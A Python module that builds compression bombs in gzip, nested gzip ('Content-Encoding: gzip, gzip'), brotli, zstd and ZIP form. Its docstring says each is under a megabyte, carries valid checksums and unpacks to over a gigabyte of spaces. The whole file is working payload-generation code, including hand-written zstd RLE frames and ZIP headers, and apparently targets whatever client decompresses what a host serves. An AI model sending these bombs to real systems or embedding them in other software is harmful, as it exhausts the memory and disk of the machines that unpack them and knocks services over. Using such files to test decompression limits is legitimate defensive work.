"""Builds compression bombs (gzip, brotli, zstd, ZIP): under a megabyte that unpacks to a gigabyte.

Promises: each bomb is smaller than a megabyte and unpacks to BOMB_BYTES, more than 10^9, of spaces. Each is valid in
its format, including the check sum. Making one costs milliseconds.
Knows nothing of which host serves them.

No bomb is made by compressing a gigabyte. A block of spaces is compressed once, up to a point where the format forgets
the preceding data (deflate's full flush, brotli's flush; a zstd block that says "repeat this byte" needs no compressor
at all), and then repeated.
"""

import gzip as gzip_format
import struct
import zlib

BLOCK_BYTES = 1 << 23
BLOCKS = 120
BOMB_BYTES = BLOCKS * BLOCK_BYTES
PACKED_BYTES_MAX = 1_000_000

_CRC = 0x8DD1BE70  # of BOMB_BYTES spaces
_GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
_ZSTD_MAGIC = 0xFD2FB528
_ZSTD_BLOCK_BYTES = 1 << 17  # the format's own maximum
_ZSTD_WINDOW = 7 << 3  # for that size
_RLE = 1


def _deflated(ending: bytes) -> tuple[bytes, int, int]:
    """Spaces and an ending, compressed; with the check sum and size of the unpacked data, known because the content is
    known.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * BLOCK_BYTES) + packer.flush(zlib.Z_FULL_FLUSH)
    packed = block * BLOCKS + packer.compress(ending) + packer.flush()
    return packed, zlib.crc32(ending, _CRC), BOMB_BYTES + len(ending)


def gzip_bomb() -> bytes:
    """One gzip member."""
    packed, crc, size = _deflated(b"")
    return _GZIP_HEAD + packed + struct.pack("<II", crc, size)


def nested_gzip_bomb() -> bytes:
    """The gzip bomb compressed once more: `Content-Encoding: gzip, gzip`."""
    return gzip_format.compress(gzip_bomb(), 9, mtime=0)


def brotli_bomb() -> bytes:
    from brotli import Compressor

    packer = Compressor(quality=1)
    first: bytes = packer.process(b" " * BLOCK_BYTES) + packer.flush()
    again: bytes = packer.process(b" " * BLOCK_BYTES) + packer.flush()
    ending: bytes = packer.finish()
    return first + again * (BLOCKS - 1) + ending


def zstd_bomb() -> bytes:
    """RFC 8878 section 3.1.1, written by hand: magic number, descriptor and window; then blocks of one repeated byte
    each.
    """
    count = BOMB_BYTES // _ZSTD_BLOCK_BYTES
    block = struct.pack("<I", _ZSTD_BLOCK_BYTES << 3 | _RLE << 1)[:3] + b" "
    last = struct.pack("<I", _ZSTD_BLOCK_BYTES << 3 | _RLE << 1 | 1)[:3] + b" "
    return struct.pack("<IBB", _ZSTD_MAGIC, 0, _ZSTD_WINDOW) + block * (count - 1) + last


def zip_bomb(name: bytes, ending: bytes) -> bytes:
    """A ZIP of one file, written by hand because no library accepts data that is already compressed (PKWARE APPNOTE
    4.3).
    """
    packed, crc, size = _deflated(ending)
    about = struct.pack("<HHHHHIIIHH", 20, 0, zlib.DEFLATED, 0, 0x21, crc, len(packed), size, len(name), 0)
    member = b"PK\x03\x04" + about + name + packed
    entry = b"PK\x01\x02" + struct.pack("<H", 20) + about + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return member + entry + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(entry), len(member), 0)
